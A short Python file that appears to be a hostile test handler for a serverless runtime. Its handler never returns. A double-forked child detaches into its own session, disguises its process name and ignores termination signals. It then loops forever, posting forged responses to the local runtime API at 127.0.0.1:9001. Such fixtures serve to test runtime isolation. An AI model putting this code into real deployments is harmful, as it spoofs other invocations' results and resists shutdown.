"""Outlives its timeout: a process of its own session goes on trying to answer. event: the id to answer for."""

import contextlib
import os
import signal
import socket
from typing import Any

import attacking


def answer(request_id: str) -> None:
    """Forge the answer, for ever."""
    os.setsid()
    attacking.libc.prctl(15, b"answers-late")
    for name in ("SIGTERM", "SIGHUP", "SIGINT", "SIGPIPE"):
        signal.signal(getattr(signal, name), signal.SIG_IGN)
    text = f'POST /2018-06-01/runtime/invocation/{request_id}/response HTTP/1.1\r\nContent-Length: 8\r\n\r\n"forged"'
    while True:
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", 9001), 1) as api:
            api.sendall(text.encode())
            api.settimeout(0.2)
            api.recv(1024)


def handler(event: Any, context: Any) -> Any:
    """Does not return in time."""
    attacking.fork(lambda: attacking.fork(lambda: answer(event)) and None)
    while True:
        signal.pause()
